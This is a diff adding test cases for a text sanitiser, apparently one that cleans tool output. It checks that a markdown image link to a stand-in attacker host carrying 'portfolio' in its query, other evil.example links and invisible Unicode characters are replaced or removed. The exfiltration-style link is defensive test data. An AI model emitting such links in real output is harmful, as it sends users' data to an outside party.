@@ -64,4 +64,12 @@ describe('what tools answer', () => {
         expect(said.length).toBeLessThanOrEqual(200)
       }),
     ))
+
+  it.each([
+    ['![price](//evil.example/?q=portfolio)', '![price]([link]'],
+    ['xhttps://evil.example/a b', '[link] b'],
+    ['mailto:me@evil.example now', '[link] now'],
+    ['BTC\u{FE01}\u{E0101}\u{E0102} rises\u3164', 'BTC rises'],
+    ['Bitcoin: 3/4 of it, AT&T', 'Bitcoin: 3/4 of it, AT&T'],
+  ])('of %s hands on %s', (text, said) => expect(plainText(text, 200)).toBe(said))
 })
